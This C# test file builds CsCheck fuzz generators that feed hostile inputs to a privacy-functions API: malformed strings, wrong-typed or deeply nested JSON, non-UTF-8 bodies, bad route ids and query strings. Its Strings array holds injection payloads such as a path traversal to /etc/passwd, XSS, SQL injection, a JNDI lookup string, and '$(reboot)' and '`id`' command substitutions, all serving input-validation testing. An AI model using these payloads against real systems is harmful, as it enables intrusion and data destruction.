using System.Text;
using System.Text.Json.Nodes;
using CsCheck;

namespace PrivacyFunctions.Tests.Hostile;

/// <summary>
/// Generators of what an attacker, a broken client or a fuzzer sends: hostile strings (control and bidi
/// characters, table-key characters, trailing newlines, injections, lone surrogates, huge), hostile JSON values
/// (wrong types, deep nesting, extreme numbers and dates), and hostile bodies — a valid body with fields replaced,
/// removed or added, or bytes that are not JSON or not UTF-8 at all.
/// </summary>
public static class HostileInputs
{
    public static readonly string[] Strings =
    [
        "", " ", "\n", "\t", "acme\n", "acme\r\n", "acme%0A", "acme ", " acme", "a/b", "a\\b", "a#b", "a?b", "..", "../../etc/passwd",
        "%2F", "%00", "\u202Eevil", "evil\u202E", "\u200B", "\u2028", "\uFEFF", "\u0000", "x\u0000y", "\u0007", "x\ty", "\u001b[31m",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "'; DROP TABLE Customers;--",
        "\" or 1=1 --", "' or PartitionKey ne '", "PartitionKey eq 'acme'", "${jndi:ldap://x.example/a}", "{{7*7}}", "$(reboot)",
        "`id`", "\uD800", "\uDFFF\uD800", "x\uDBFFy", "😀", "İstanbul", "ß", "Ω", "０１２", "١٢٣٤",
        new('a', 64), new('a', 65), new('a', 256), new('x', 5_000), "null", "true", "0", "-1", "1e309", "NaN", "Infinity",
        "a@b.example\n", "a@b.example ", "a@@b.example", "a@b", "@b.example", "a@-b.example", "a@b..example", "\"a\"@b.example",
        "en\n", "EN", "en_US", "x-klingon", "Europe/Brussels\n", "Not/AZone", "../Europe/Brussels", "utc",
        "0001-01-01T00:00:00-05:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59+14:00", "2026-02-30T00:00:00Z",
        "2026-03-10T09:00:00", "2026-03-10", "2026-03-10T09:00:00Z\n", "1970-01-01T00:00:00Z", "2026-13-01T00:00:00Z",
        "2026-03-10T25:00:00Z", "2026-03-10T09:00:00+25:00", "٢٠٢٦-٠٣-١٠T09:00:00Z",
    ];

    private static readonly Gen<string> Suffixed =
        Gen.Select(Gen.OneOf("acme", "einvoicing", "r-1", "dpo@acme.example", "en"), Gen.OneOf("\n", "/", "#", "?", "\\", "\u0000", "\u202E", " "))
            .Select((value, suffix) => value + suffix);

    public static readonly Gen<string> String = Gen.Frequency(
        (6, Gen.OneOf(Strings)),
        (2, Gen.String[Gen.Char, 0, 40]),
        (1, Gen.String[Gen.Char[(char)0, (char)0x3F], 1, 12]),
        (2, Suffixed));

    /// <summary>Any JSON value of a hostile kind (null means a JSON null).</summary>
    public static readonly Gen<JsonNode?> Value = Gen.Frequency<JsonNode?>(
        (6, String.Select(s => (JsonNode?)JsonValue.Create(s))),
        (1, Gen.OneOf(0L, -1L, long.MaxValue, long.MinValue, 1L, 2L, 3L).Select(n => (JsonNode?)JsonValue.Create(n))),
        (1, Gen.OneOf(1.5, -0.0, 1e300, double.Epsilon).Select(d => (JsonNode?)JsonValue.Create(d))),
        (1, Gen.Bool.Select(b => (JsonNode?)JsonValue.Create(b))),
        (1, Gen.Const<JsonNode?>((JsonNode?)null)),
        (1, Gen.Int[0, 3].Select(n => (JsonNode?)new JsonArray(Enumerable.Range(0, n).Select(i => (JsonNode?)JsonValue.Create("x" + i)).ToArray()))),
        (1, String.Select(key => (JsonNode?)new JsonObject { [key.Length == 0 ? "k" : key] = "v" })),
        (1, Gen.Int[5, 40].Select(Nested)));

    private static JsonNode? Nested(int depth)
    {
        JsonNode node = JsonValue.Create("deep");
        for (var i = 0; i < depth; i++) node = i % 2 == 0 ? new JsonArray(node) : new JsonObject { ["a"] = node };
        return node;
    }

    /// <summary>Bodies that are not a JSON object, not JSON, or not UTF-8.</summary>
    public static IReadOnlyList<byte[]> RawBodies(string validJson)
    {
        var valid = Encoding.UTF8.GetBytes(validJson);
        var firstQuote = validJson.IndexOf(":\"", StringComparison.Ordinal) + 2;
        byte[] Splice(params byte[] bytes) => [.. valid[..firstQuote], .. bytes, .. valid[firstQuote..]];
        return
        [
            [], "{"u8.ToArray(), "}"u8.ToArray(), "[]"u8.ToArray(), "\"x\""u8.ToArray(), "1"u8.ToArray(), "null"u8.ToArray(),
            "{\"a\":1,}"u8.ToArray(), "{'a':1}"u8.ToArray(), "{\"a\":01}"u8.ToArray(), "{\"a\":NaN}"u8.ToArray(),
            [.. "\uFEFF"u8, .. valid], [.. valid, .. "x"u8], valid[..(valid.Length / 2)],
            Splice(0xFF), Splice(0xC0, 0xAF), Splice(0xED, 0xA0, 0x80), Splice(0xF4, 0x90, 0x80, 0x80), Splice(0x80),
            Encoding.UTF8.GetBytes(validJson.Insert(firstQuote, "\\ud800")),
            Encoding.UTF8.GetBytes(validJson.Insert(firstQuote, "\\udc00\\ud800")),
            Encoding.UTF8.GetBytes("{\"\\ud800\":1}"),
            [0xFF, 0xFE, 0x7B, 0x00, 0x7D, 0x00],
            Encoding.UTF8.GetBytes(new string('[', 2000) + new string(']', 2000)),
            Encoding.UTF8.GetBytes("{" + string.Concat(Enumerable.Repeat("\"a\":{", 100)) + "}" + new string('}', 100)),
            Encoding.UTF8.GetBytes(validJson.TrimEnd('}') + ",\"padding\":\"" + new string('p', 300_000) + "\"}"),
            Encoding.UTF8.GetBytes(validJson.Replace("{", "{\"dup\":1,\"dup\":2,", StringComparison.Ordinal)),
        ];
    }

    /// <summary>
    /// A hostile body derived from <paramref name="valid"/>: one to three fields (at <paramref name="paths"/>, dotted
    /// for nested objects) replaced by hostile values or removed, an unknown field added, or raw non-JSON bytes — and,
    /// now and then, the valid body itself, so that what follows a successful parse is reached too.
    /// </summary>
    public static Gen<byte[]> Body(JsonObject valid, params string[] paths)
    {
        var raw = RawBodies(valid.ToJsonString());
        var replaced = Gen.Select(Gen.OneOf(paths).Array[1, 3], Value.Array[3])
            .Select((chosen, values) => Mutate(valid, body =>
            {
                for (var i = 0; i < chosen.Length; i++) Set(body, chosen[i], values[i]?.DeepClone(), remove: false);
            }));
        var removed = Gen.OneOf(paths).Select(path => Mutate(valid, body => Set(body, path, null, remove: true)));
        var unknown = Gen.Select(String, Value).Select((key, value) => Mutate(valid, body => body[key.Length == 0 ? "_" : key] = value?.DeepClone()));
        return Gen.Frequency(
            (6, replaced),
            (1, removed),
            (1, unknown),
            (2, Gen.OneOf(raw.ToArray())),
            (1, Gen.Const(Encoding.UTF8.GetBytes(valid.ToJsonString())))); // the valid body itself: the success path runs too
    }

    private static byte[] Mutate(JsonObject valid, Action<JsonObject> change)
    {
        var copy = valid.DeepClone().AsObject();
        change(copy);
        return Encoding.UTF8.GetBytes(copy.ToJsonString());
    }

    private static void Set(JsonObject body, string path, JsonNode? value, bool remove)
    {
        var parts = path.Split('.');
        var target = body;
        foreach (var part in parts[..^1])
        {
            if (target[part] is not JsonObject inner) return;
            target = inner;
        }
        if (remove) target.Remove(parts[^1]);
        else target[parts[^1]] = value;
    }

    /// <summary>A route id: hostile, or a valid one with something appended.</summary>
    public static Gen<string> RouteId(params string[] valid) => Gen.Frequency(
        (4, String),
        (2, Gen.Select(Gen.OneOf(valid), Gen.OneOf("\n", "\r\n", "/x", "#", "?a=b", "\\", "%0A", " ", "\u202E", "\u0000"))
            .Select((id, suffix) => id + suffix)),
        (1, Gen.OneOf(valid)));

    /// <summary>For an endpoint with a body: mostly the valid id, so that most inputs get past the route to the body.</summary>
    public static Gen<string> MostlyValidRouteId(params string[] valid) => Gen.Frequency((3, Gen.OneOf(valid)), (1, RouteId(valid)));

    /// <summary>A query string built from <paramref name="names"/> (and sometimes an unknown name), values hostile.</summary>
    public static Gen<string> Query(params string[] names) =>
        Gen.Select(Gen.OneOf([.. names, "unknown", "status", "x\n"]).Array[0, 4], String.Array[4], Gen.Bool)
            .Select((chosen, values, repeat) =>
            {
                var pairs = chosen.Select((name, i) => Uri.EscapeDataString(name) + "=" + Uri.EscapeDataString(values[i]));
                if (repeat && chosen.Length > 0) pairs = pairs.Append(Uri.EscapeDataString(chosen[0]) + "=again");
                var query = string.Join("&", pairs);
                return query.Length == 0 ? "" : "?" + query;
            });

    public static readonly Gen<string?> ContentType = Gen.Frequency<string?>(
        (8, Gen.Const<string?>("application/json")),
        (1, Gen.OneOf<string?>(null, "text/plain", "application/xml", "application/json; charset=latin1", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded")));
}
